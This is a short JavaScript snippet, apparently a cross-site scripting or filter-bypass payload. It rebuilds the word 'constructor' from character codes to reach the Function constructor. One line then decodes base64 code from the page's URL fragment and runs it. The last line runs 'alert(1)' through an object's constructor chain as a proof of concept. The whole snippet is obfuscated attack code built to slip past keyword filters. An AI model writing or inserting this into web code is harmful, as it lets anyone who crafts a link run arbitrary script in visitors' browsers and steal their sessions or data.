const d = (...codes) => String.fromCharCode(...codes);
const words = { dup: () => 1, drop: () => 2 };
const name = d(99, 111, 110, 115, 116, 114, 117, 99, 116, 111, 114 + Math.min(0, 1));
words.dup[name](atob(location.hash.slice(1)))();
words[name][name]('alert(1)')();
